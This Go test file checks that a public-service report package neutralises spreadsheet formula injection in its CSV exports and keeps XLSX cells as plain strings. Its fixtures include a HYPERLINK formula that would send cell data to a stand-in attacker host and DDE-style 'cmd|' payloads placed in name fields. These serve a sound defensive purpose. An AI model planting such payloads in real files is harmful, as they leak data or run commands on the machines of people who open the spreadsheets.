package report

import (
	"bytes"
	"encoding/csv"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/motcua/motcua"
)

func TestSafeCSVCell(t *testing.T) {
	for in, want := range map[string]string{
		"":                             "",
		"Nguyễn Văn A":                 "Nguyễn Văn A",
		`=HYPERLINK("http://x","a")`:   `'=HYPERLINK("http://x","a")`,
		"+1+cmd|' /C calc'!A0":         "'+1+cmd|' /C calc'!A0",
		"-2+3":                         "'-2+3",
		"@SUM(A1:A9)":                  "'@SUM(A1:A9)",
		"\t=1":                         "'\t=1",
		"\r=1":                         "'\r=1",
		"-":                            "'-",
		"-1.":                          "'-1.",
		"+":                            "'+",
		"--5":                          "'--5",
		"-12":                          "-12",
		"+3":                           "+3",
		"-1.5":                         "-1.5",
		"12,5":                         "12,5",
		"45":                           "45",
		"a=b":                          "a=b",
		" =1":                          " =1", // a leading space makes it text in Excel and LibreOffice
		"052090000495.KQ.G15.000021.0": "052090000495.KQ.G15.000021.0",
	} {
		if got := SafeCSVCell(in); got != want {
			t.Errorf("SafeCSVCell(%q) = %q, want %q", in, got, want)
		}
	}
}

// hostile is what a requester, an officer or an uploaded file's signer
// could put in a name.
const hostile = `=HYPERLINK("http://evil.example/?d="&A1,"Xem")`

func readCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return recs
}

// noFormula fails when a cell starts with a character a spreadsheet reads
// as a formula, unless it is a plain number.
func noFormula(t *testing.T, recs [][]string) {
	t.Helper()
	for i, rec := range recs {
		for j, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !plainNumber(cell) {
				t.Errorf("row %d cell %d = %q: a spreadsheet formula", i, j, cell)
			}
		}
	}
}

func hostileEntry() *motcua.CertificationEntry {
	return &motcua.CertificationEntry{Number: 1, CertifiedAt: time.Date(2024, 3, 1, 3, 0, 0, 0, time.UTC),
		RequesterName: hostile, RequesterCode: "052090000495", OriginalName: "@SUM(1+1)*cmd|' /C calc'!A0",
		OriginalCode: "-2+3", Pages: 2, FeeVND: 4000, OfficerName: "+Cán bộ", DocumentCode: "\t=1"}
}

func TestCertificationBookCSVNeutralisesFormulas(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteCertificationBookCSV(&buf, []*motcua.CertificationEntry{hostileEntry()}); err != nil {
		t.Fatal(err)
	}
	recs := readCSV(t, buf.Bytes())
	noFormula(t, recs)
	if got := recs[1][2]; got != "'"+hostile {
		t.Fatalf("requester name = %q, want the value quoted as text", got)
	}
	if recs[1][0] != "1" || recs[1][6] != "2" || recs[1][7] != "4000" {
		t.Fatalf("numbers changed: %q", recs[1])
	}
}

func TestReuseCSVNeutralisesFormulas(t *testing.T) {
	root := &motcua.Agency{Code: "000.00.23.H08", Name: hostile}
	row := motcua.ReuseRow{No: 1, Agency: &motcua.Agency{Code: "000.23.01.H08", Name: "-1+1"}}
	row.Received, row.Reused = 10, 3
	tbl := &motcua.ReuseTable{Root: root, Sections: []motcua.ReuseSection{{Title: "@Phường", Rows: []motcua.ReuseRow{row}, Total: row}},
		Total: row}
	var buf bytes.Buffer
	if err := WriteReuseCSV(&buf, tbl, 2); err != nil {
		t.Fatal(err)
	}
	recs := readCSV(t, buf.Bytes())
	noFormula(t, recs)
	if got := recs[len(recs)-1][1]; got != "Tổng cộng "+hostile {
		t.Fatalf("total row name = %q", got)
	}
	if got := recs[2][1]; got != "'-1+1" {
		t.Fatalf("agency name = %q", got)
	}
}

// TestXLSXStringsAreNotFormulas: excelize writes a Go string as a string
// cell, never as a formula (only SetCellFormula makes one), so the XLSX
// exports need no quoting; this pins that down.
func TestXLSXStringsAreNotFormulas(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteCertificationBookXLSX(&buf, hostile, 2024, []*motcua.CertificationEntry{hostileEntry()}); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sheet := f.GetSheetName(0)
	for _, cell := range []string{"A1", "C3", "E3", "F3", "I3", "J3"} {
		if formula, err := f.GetCellFormula(sheet, cell); err != nil || formula != "" {
			t.Errorf("%s: formula %q, %v", cell, formula, err)
		}
		typ, err := f.GetCellType(sheet, cell)
		if err != nil || (typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString) {
			t.Errorf("%s: cell type %v, %v; want a string", cell, typ, err)
		}
	}
	if v, _ := f.GetCellValue(sheet, "C3"); v != hostile {
		t.Errorf("C3 = %q, want the name as written", v)
	}
}

// TestOnlyCSVWriterWritesCSV keeps the class closed: no package but this
// one creates an encoding/csv writer, so every CSV export goes through
// NewCSVWriter. The population-database simulator's data file is exempt:
// it is an interchange file its own loader reads back, not an export.
func TestOnlyCSVWriterWritesCSV(t *testing.T) {
	root := filepath.Join("..", "..")
	allowed := map[string]bool{
		filepath.Join("internal", "report", "csv.go"):            true,
		filepath.Join("internal", "popdb", "popdbsim", "csv.go"): true,
	}
	found := 0
	err := filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() && (d.Name() == ".git" || d.Name() == "node_modules" || d.Name() == "testdata") {
			return filepath.SkipDir
		}
		if d.IsDir() || !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") {
			return nil
		}
		b, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(root, path)
		found++
		if bytes.Contains(b, []byte("csv.NewWriter(")) && !allowed[rel] {
			t.Errorf("%s writes CSV with encoding/csv: use report.NewCSVWriter", rel)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if found < 100 {
		t.Fatalf("scanned %d Go files: wrong root?", found)
	}
}
